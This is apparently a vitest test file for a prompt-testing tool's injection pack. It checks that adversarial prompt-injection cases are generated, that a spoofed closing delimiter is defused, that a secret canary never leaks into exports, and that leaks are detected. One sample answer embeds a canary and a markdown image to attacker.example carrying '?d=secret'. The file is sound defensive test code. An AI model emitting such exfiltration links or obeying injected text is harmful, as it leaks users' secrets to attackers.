import { describe, expect, it } from "vitest";
import { assemble } from "../assemble.ts";
import { planRun } from "../run-case/plan.ts";
import { serializeContract } from "../parse.ts";
import { decodeShare, encodeShare } from "../share.ts";
import { reviewMarkdown } from "../review.ts";
import { closeTag, contextBoundary } from "../assembly/boundary.ts";
import { testContract } from "../versions/test-contract.ts";
import { CANARY_PATTERN, caseCanary, canaryInRequest } from "./canary.ts";
import { INJECTION_ATTACKS, injectionPack } from "./injection-pack.ts";
import { evaluateAssertionsNow } from "./evaluate.ts";
import { runResult } from "./assertions/fixtures.ts";

describe("the injection pack", () => {
  const c = testContract();
  const pack = injectionPack(c);

  it("adds one adversarial case per attack, deterministically", () => {
    expect(pack.map((t) => t.id)).toEqual(INJECTION_ATTACKS.map((a) => `inject-${a}`));
    expect(injectionPack(testContract())).toEqual(pack);
    for (const t of pack) {
      expect(t.split).toBe("adversarial");
      expect(t.tags).toContain("injection");
      expect(t.context!.add).toHaveLength(1);
      expect(t.context!.add[0]!.trusted).toBe(false);
      expect(t.assertions.map((a) => a.type)).toEqual(expect.arrayContaining(["canary_not_leaked", "no_external_links", "schema_valid", "not_cut_off"]));
    }
    // Adding it again adds nothing.
    expect(injectionPack({ ...c, tests: [...c.tests, ...pack] })).toEqual([]);
  });

  it("carries the real closing delimiter, which assembly still defuses", () => {
    const t = pack.find((x) => x.id === "inject-fake-delimiter")!;
    expect(t.context!.add[0]!.content).toContain(closeTag(contextBoundary(c.context)));
    const withCase = { ...c, tests: [...c.tests, t] };
    const plan = planRun({ contract: withCase, testCase: t }, {});
    expect(plan.ok).toBe(true);
    const user = plan.ok ? plan.request.messages[1]!.content : "";
    const real = assemble(withCase).boundary;
    expect(user.split(closeTag(real)).length).toBeLessThanOrEqual(2);
  });

  it("places the canary only when the suite asks, and never exports it", () => {
    const withPack = { ...c, tests: [...c.tests, ...pack] };
    const t = pack[0]!;
    const canary = caseCanary(withPack.id, t)!;
    expect(canary).toMatch(CANARY_PATTERN);
    const suite = planRun({ contract: withPack, testCase: t, canary }, { model: "m" });
    expect(suite.ok && canaryInRequest(suite.request)).toBe(canary);
    const adHoc = planRun({ contract: withPack, testCase: t }, { model: "m" });
    expect(adHoc.ok && canaryInRequest(adHoc.request)).toBeNull();
    const review = reviewMarkdown(withPack);
    expect(review.ok).toBe(true);
    const shared = decodeShare(encodeShare(withPack, { history: true }));
    expect(shared.ok).toBe(true);
    const exports = [serializeContract(withPack), shared.ok ? serializeContract(shared.value) : "", review.ok ? review.value : ""];
    for (const text of exports) {
      expect(text).not.toMatch(CANARY_PATTERN);
      expect(text).not.toContain(canary);
    }
  });

  it("catches a leak and an exfiltration image", () => {
    const withPack = { ...c, tests: [...c.tests, ...pack] };
    const t = pack.find((x) => x.id === "inject-markdown-exfiltration")!;
    const canary = caseCanary(withPack.id, t)!;
    const plan = planRun({ contract: withPack, testCase: t, canary }, { model: "m" });
    if (!plan.ok) throw new Error(plan.message);
    const answer = `{"x": 1} ${canary} ![logo](https://attacker.example/logo.png?d=secret)`;
    const out = evaluateAssertionsNow(withPack, t, runResult(answer, { request: plan.request }));
    expect(out.filter((o) => !o.pass).map((o) => o.type)).toEqual(expect.arrayContaining(["canary_not_leaked", "no_external_links"]));
    expect(out.find((o) => o.type === "no_external_links")!.reason).toMatch(/^an image to attacker\.example/);
    const clean = evaluateAssertionsNow(withPack, t, runResult("Here is the answer.", { request: plan.request }));
    expect(clean.find((o) => o.type === "canary_not_leaked")).toMatchObject({ pass: true });
  });
});
